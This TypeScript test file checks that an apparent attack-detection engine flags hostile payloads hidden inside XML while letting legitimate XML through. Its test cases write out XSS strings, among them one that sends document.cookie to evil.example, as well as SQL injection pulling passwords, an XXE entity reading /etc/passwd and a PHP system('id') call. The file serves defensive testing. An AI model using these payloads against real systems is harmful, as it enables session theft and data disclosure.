import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { Engine } from './engine.ts'
import { fieldsOfText, fieldsOfXml } from './xml-fields.ts'

const scoreOf = (text: string) => new Engine().inspect(fieldsOfXml(text)).score
const union = "' union select password from users--"

describe('XML hides no attack', () => {
  it.each([
    '<script>alert(document.cookie)</script>',
    '<svg:script href="a.js"/>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg onload="alert(1)"/>',
    '<a><![CDATA[<script>fetch("//evil.example/"+document.cookie)</script>]]></a>',
    '<a><![CDATA[<img src=x onerror=alert(1)>]]></a>',
    `<a b='1' c="x${union}"/>`,
    `<a b="1>2" c="x${union}"/>`,
    `<a>1<!-- -->${union}</a>`,
    `<a>1<![CDATA[${union}]]></a>`,
    "<a>1' union<select password from users--",
    "1' union<select password from users--",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<a><?php system("id") ?></a>',
    '<a><__proto__><admin>1</admin></__proto__></a>',
  ])('%s', (text) => {
    expect(scoreOf(text)).toBeGreaterThanOrEqual(5)
  })

  it('all of a plain text is one text', () => {
    const text = "1' union <a> select password from users--"
    expect(fieldsOfText(text)).toEqual([{ kind: 'text', name: 'body', text }])
    expect(fieldsOfText(' \n')).toEqual([])
  })

  it('of any text no more is made than a few times its length', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '<!',
      'a',
      ' ',
      '=',
      '/',
      ' onload',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const text = `<${pieces.join('')}`
        const length = fieldsOfXml(text).reduce((sum, field) => sum + field.text.length, 0)
        expect(length).toBeLessThanOrEqual(8 * text.length)
      }),
    )
  })
})

it.each([
  '<?xml version="1.0" encoding="utf-8"?><a xmlns="urn:a"><b c="1 &lt; 2">O\'Brien &amp; sons</b></a>',
  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
  '<rss version="2.0"><channel><link>https://a.example/</link><image href="b.png"/></channel></rss>',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><style>a{b:c}</style></svg>',
])('legal XML passes: %s', (text) => {
  expect(scoreOf(text)).toBeLessThan(5)
})

it('a tag is a text once, however many events it has', () => {
  const tag = `<a ${'onload '.repeat(500)}>`
  const length = fieldsOfXml(tag).reduce((sum, { text }) => sum + text.length, 0)
  expect(length).toBeLessThanOrEqual(3 * tag.length)
  expect(scoreOf(tag.replace('>', '=alert(1)>'))).toBeGreaterThanOrEqual(5)
})
